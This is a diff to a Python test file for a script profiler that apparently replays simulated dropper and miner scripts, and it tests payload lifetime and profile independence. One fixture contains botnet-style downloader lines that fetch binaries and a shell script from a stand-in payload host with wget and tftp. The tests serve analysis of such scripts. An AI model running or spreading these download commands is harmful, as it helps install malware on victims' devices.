@@ -1,8 +1,11 @@
 """Tests for the script profiler (single real execution per script)."""
 
+import gc
+import types
+
 import pytest
 
-from repro.agents.scripts import ScriptKind, build_script
+from repro.agents.scripts import ScriptKind, ScriptTemplate, build_script
 from repro.workload.script_runner import ScriptRunner
 
 
@@ -75,3 +78,59 @@ class TestProfiles:
         b = ScriptRunner().profile(build_script(ScriptKind.KEY_INJECT, token="DET"))
         assert a.hashes == b.hashes
         assert a.commands == b.commands
+
+
+def _reachable_bytes(root):
+    """Every ``bytes`` object reachable from ``root`` (types and modules
+    are not followed: they lead to the whole interpreter)."""
+    found, seen, stack = [], set(), [root]
+    while stack:
+        obj = stack.pop()
+        if id(obj) in seen:
+            continue
+        seen.add(id(obj))
+        if isinstance(obj, bytes):
+            found.append(obj)
+        elif not isinstance(obj, (str, type, types.ModuleType,
+                                  types.FunctionType)):
+            stack.extend(gc.get_referents(obj))
+    return found
+
+
+#: Payload server shared by the campaigns below.
+HOST = "198.51.100.66"
+
+
+def _campaign_scripts(n=50):
+    """``n`` dropper and miner scripts served from one host."""
+    return [
+        build_script(ScriptKind.DROPPER if i % 2 else ScriptKind.MINER,
+                     token=f"c{i}", dropper_host=HOST)
+        for i in range(n)
+    ]
+
+
+class TestPayloadLifetime:
+    def test_runner_keeps_no_payload_bytes(self):
+        runner = ScriptRunner()
+        for template in _campaign_scripts(4):
+            assert template.payload is not None
+            runner.profile(template)
+        assert _reachable_bytes(runner) == []
+
+    @pytest.mark.parametrize("target", [
+        build_script(ScriptKind.DROPPER, token="c7", dropper_host=HOST),
+        build_script(ScriptKind.MINER, token="c8", dropper_host=HOST),
+        # No payload of its own, but it fetches what campaign c3 serves:
+        # it must get the resolver's default bytes, not c3's binary.
+        ScriptTemplate(kind=ScriptKind.FILELESS, token="probe", lines=[
+            f"cd /tmp; wget http://{HOST}/bins/arm7.c3",
+            f"tftp -g -r c4.sh {HOST}",
+        ]),
+    ], ids=["dropper", "miner", "peer-uri"])
+    def test_profile_is_independent_of_earlier_profiles(self, target):
+        first = ScriptRunner().profile(target)
+        runner = ScriptRunner()
+        for template in _campaign_scripts(50):
+            runner.profile(template)
+        assert runner.profile(target) == first
